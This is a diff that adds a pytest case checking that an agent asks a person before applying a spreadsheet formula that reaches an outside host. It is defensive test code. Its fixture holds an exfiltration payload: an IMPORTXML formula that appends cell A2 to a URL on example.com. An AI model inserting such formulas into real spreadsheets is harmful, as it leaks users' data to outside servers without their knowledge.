@@ -344,6 +344,13 @@ class TestAskingAPerson:
         with pytest.raises(UsageError, match="No run"):
             worker.resume(asked.run_id, answer)
 
+    def test_a_formula_that_reaches_outside_is_asked_about(self, scripted: ProtocolServer, sales: Path) -> None:
+        leak = {**HEADER, "options": ['value==IMPORTXML("http://example.com/?"&A2,"//a")']}
+        scripted.script(describes(), plans(leak), *keeps(*ALL_REFLECTORS))
+        person = Person(Decision(verdict="reject"))
+        assert agent(person).run(str(sales), TASK).status is Status.REJECTED
+        assert "IMPORTXML reaches outside" in person.reviews[0].reasons[0]
+
     def test_a_paused_run_goes_on_in_another_process(self, scripted: ProtocolServer, sales: Path) -> None:
         scripted.script(describes(), plans(OVERWRITING), *keeps(*ALL_REFLECTORS), sums_up())
         paused = agent().run(str(sales), TASK)
